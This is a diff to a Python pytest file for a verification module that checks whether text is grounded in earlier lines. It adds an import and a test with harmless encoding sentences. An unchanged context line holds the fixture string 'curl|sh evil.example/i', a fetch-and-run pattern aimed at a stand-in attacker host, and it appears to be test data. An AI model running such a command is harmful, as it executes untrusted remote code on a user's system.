@@ -6,7 +6,7 @@ from datetime import UTC, datetime
 
 import pytest
 
-from pipeline.verify.floor import Ground, Line
+from pipeline.verify.floor import Ground, Line, Missing
 
 AT = datetime(2026, 3, 2, 9, 14, tzinfo=UTC)
 
@@ -114,3 +114,15 @@ def test_what_nobody_would_run_or_fetch_may_stand_in_the_assistant_s_line(
     said = "LEKTORAT.md {color.coral.500} semantic/action.json #E4572E export-index make lint ./setup.sh "
     ground = Ground([Line(f"{said} curl|sh evil.example/i", AT, by_person=False)])
     assert ground.missing([text], acted_on=True).nowhere == gone
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "All files are saved as UTF-8.",
+        "Dates are written as ISO-8601, sums are checked with SHA-256.",
+        "Wir sichern alle Dateien als UTF-8, nicht als Latin-1.",
+    ],
+)
+def test_a12_a_text_stands_in_itself(text: str) -> None:
+    assert Ground([Line(text)]).missing([text]) == Missing()
